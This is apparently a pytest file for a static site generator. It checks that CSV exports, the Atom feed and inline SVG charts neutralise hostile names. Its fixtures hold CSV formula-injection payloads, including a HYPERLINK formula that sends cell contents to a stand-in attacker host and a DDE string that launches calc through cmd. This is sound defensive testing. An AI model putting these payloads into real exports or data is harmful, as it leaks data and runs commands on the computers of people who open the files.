"""A site built from names a spreadsheet, a feed reader or a Markdown renderer would misread:
every CSV the build writes has no cell that starts a formula, and every XML document (the
feed, each inline SVG chart) parses and holds the names as text (issue 23).
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from support.paths import FIXTURE_DATA

from generator.api.urls import SiteConfig
from generator.build import build_site

# OWASP's formula characters and their full-width forms; white space a spreadsheet may skip.
FORMULA = set("=+-@\t\r＝＋－＠")
HOSTILE_NAMES = {
    "models/alpha-1.toml": {
        "name": '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "provider": "@SUM(1+1)",
        "country": "+1-2",
    },
    # (a space before the formula is refused in data now: one-line fields are not padded;
    # csv_cell still guards it, tests/documents/test_encoders.py)
    "models/alpha-2.toml": {"name": "-2+3+cmd|' /C calc'!A0", "provider": "=1+1 =2"},
    "models/alpha-3.toml": {"name": "＝1+1 </title><x/> & [a](b)", "provider": "＠x"},
    "models/beta-1.toml": {"name": "@team *bold* `code` <!--", "country": "-"},
}
QUOTED_FIELD = re.compile(r'^(name|provider|country) = ".*"$', re.M)


def _toml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-names")
    data = root / "data"
    shutil.copytree(FIXTURE_DATA, data)
    for rel, fields in HOSTILE_NAMES.items():
        path = data / rel
        text = path.read_text(encoding="utf-8")
        for name, value in fields.items():
            text, count = re.subn(
                rf"^{name} = \".*\"$", f"{name} = {_toml_string(value)}", text, count=1, flags=re.M
            )
            assert count == 1, (rel, name)
        path.write_text(text, encoding="utf-8")
    out = root / "site_out"
    build_site(data, out, SiteConfig())
    return out


def _starts_formula(cell: str) -> bool:
    return cell[:1] in FORMULA or cell.lstrip()[:1] in FORMULA


def test_no_cell_of_any_csv_starts_a_formula(hostile_site: Path) -> None:
    files = sorted(hostile_site.rglob("*.csv"))
    assert len(files) >= 10
    seen: set[str] = set()
    for path in files:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        for row in rows:
            for cell in row:
                assert not _starts_formula(cell), (path.relative_to(hostile_site), cell)
                seen.add(cell)
    # the names are there, neutralised, and read back as text
    assert "'" + HOSTILE_NAMES["models/alpha-1.toml"]["name"] in seen
    assert "'@SUM(1+1)" in seen and "'+1-2" in seen and "'=1+1 =2" in seen and "'-" in seen


def test_the_feed_and_every_inline_chart_parse_as_xml(hostile_site: Path) -> None:
    feed = ET.fromstring((hostile_site / "feed.atom").read_bytes())
    assert feed.tag.endswith("feed")
    titles = [e.text or "" for e in feed.iter("{http://www.w3.org/2005/Atom}title")]
    assert f"{HOSTILE_NAMES['models/alpha-3.toml']['name']}: 3 new benchmark results" in titles
    assert not feed.findall(".//{*}x")
    charts = 0
    for page in hostile_site.rglob("*.html"):
        for svg in re.findall(r"<svg\b.*?</svg>", page.read_text(encoding="utf-8"), re.S):
            element = ET.fromstring(svg)  # an unescaped name would break this
            assert not element.findall(".//{*}x")
            charts += 1
    assert charts >= 5
